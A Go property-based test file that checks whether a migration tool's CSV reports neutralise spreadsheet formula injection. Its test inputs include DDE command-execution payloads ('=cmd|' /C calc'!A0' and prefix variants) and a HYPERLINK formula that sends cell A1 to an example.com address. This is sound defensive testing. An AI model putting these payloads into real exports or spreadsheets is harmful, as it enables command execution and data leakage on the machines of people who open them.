package report

import (
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"attrmigrate/internal/disk/crash"
	"attrmigrate/pipeline"
	"attrmigrate/sources"
)

// formulas are texts that a spreadsheet would calculate, and some that only look so.
var formulas = []string{`=HYPERLINK("http://example.com/?"&A1,"click")`, `=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, "-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1+A1", "－1", "＠SUM(A1)", `="a"&HYPERLINK("http://example.com")&"b"`, `="plain"`, `=""`, `="`, "=",
	"+15555550100", "+*******0100", "-5", "gold", "", "<delete>", "-", `"=1"`, "a\n=1"}

// executable reports whether a spreadsheet would calculate a cell: it begins like a formula, and is neither
// a number nor a text written as ="text".
func executable(cell string) bool {
	if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r") && !strings.HasPrefix(cell, "＝") && !strings.HasPrefix(cell, "＋") &&
		!strings.HasPrefix(cell, "－") && !strings.HasPrefix(cell, "＠") {
		return false
	}
	if inner, ok := strings.CutPrefix(cell, `="`); ok && strings.HasSuffix(inner, `"`) &&
		!strings.Contains(strings.ReplaceAll(inner[:len(inner)-1], `""`, ""), `"`) {
		return false
	}
	return strings.Trim(cell[1:], "0123456789* .,") != "" || len(cell) == 1
}

// TestFormulas: whatever stands in the input, in an error or in the pool, no cell of a report is one that a
// spreadsheet calculates; and errors.csv, fed back, asks for the same as the input.
func TestFormulas(t *testing.T) {
	dir := t.TempDir()
	text := rapid.Custom(func(t *rapid.T) string {
		return rapid.SampledFrom([]string{"", "", "", "x", " "}).Draw(t, "before") + rapid.SampledFrom(formulas).Draw(t, "text")
	})
	rapid.Check(t, func(t *rapid.T) {
		marker := rapid.SampledFrom([]string{"<delete>", "-", "=NULL()"}).Draw(t, "marker")
		opts := sources.Options{DeleteMarker: marker}
		in := filepath.Join(dir, "in.csv")
		var b strings.Builder
		rows := csv.NewWriter(&b)
		_ = rows.Write([]string{"username", "custom:a", "expect:custom:a", "_note"})
		for range rapid.IntRange(1, 4).Draw(t, "rows") {
			_ = rows.Write([]string{text.Draw(t, "username"), text.Draw(t, "value"), text.Draw(t, "expected"), text.Draw(t, "note")})
		}
		rows.Flush()
		if err := os.WriteFile(in, []byte(b.String()), 0o600); err != nil {
			t.Fatalf("%v", err)
		}
		original, header := decodeWith(t, in, opts)
		before := Config{Dir: dir, Header: header, Raw: true, Deliveries: true, DeleteMarker: marker, Disk: crash.Unsynced{}}
		report(t, before, original, text.Draw(t, "error"))
		for _, name := range []string{ErrorsCSV, AppliedCSV, DeliveriesCSV} {
			checkCells(t, filepath.Join(dir, name), marker)
		}
		again, _ := decodeWith(t, filepath.Join(dir, ErrorsCSV), opts)
		if got, want := meanings(again), meanings(original); !reflect.DeepEqual(got, want) {
			t.Fatalf("fed back:\n%+v\nwant\n%+v", got, want)
		}

		plan, err := OpenPlan(crash.Unsynced{}, dir)
		if err != nil {
			t.Fatalf("%v", err)
		}
		row := AuditRow{Username: text.Draw(t, "user"), Attribute: text.Draw(t, "attribute"), Before: text.Draw(t, "before"), After: text.Draw(t, "after"), Note: text.Draw(t, "note")}
		if err := errors.Join(plan.Row(row), plan.Close()); err != nil {
			t.Fatalf("%v", err)
		}
		checkCells(t, filepath.Join(dir, AuditCSV), "")
	})
}

// refusal is an error of a service that would like to have a say in a spreadsheet.
type refusal string

func (r refusal) Error() string     { return string(r) }
func (r refusal) Code() string      { return string(r) }
func (r refusal) RequestID() string { return string(r) }

// report lists every record as failed, as applied, and with a code that was sent.
func report(t *rapid.T, cfg Config, changes []*sources.Change, text string) {
	f, err := Open(cfg)
	if err != nil {
		t.Fatalf("%v", err)
	}
	for _, c := range changes {
		f.Delivered(c, Delivery{text, text, text})
		if err := f.Write(pipeline.Result{Change: c, Outcome: pipeline.Failed, Err: refusal(text), At: at}); err != nil {
			t.Fatalf("%v", err)
		}
		if err := f.Write(pipeline.Result{Change: c, Outcome: pipeline.Updated, At: at}); err != nil {
			t.Fatalf("%v", err)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatalf("%v", err)
	}
}

// checkCells finds what a spreadsheet would calculate; the marker stays as it is, since it has a meaning.
func checkCells(t *rapid.T, path, marker string) {
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v", err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil {
		t.Fatalf("%v", err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != marker && executable(cell) {
				t.Fatalf("%s has %q", filepath.Base(path), cell)
			}
		}
	}
}

func decodeWith(t *rapid.T, path string, opts sources.Options) ([]*sources.Change, []string) {
	in, err := sources.Open([]string{path}, opts)
	if err != nil {
		t.Fatalf("%v", err)
	}
	defer in.Close()
	var changes []*sources.Change
	for {
		c, err := in.Next(t.Context())
		if err != nil {
			return changes, in.Header()
		}
		changes = append(changes, c)
	}
}
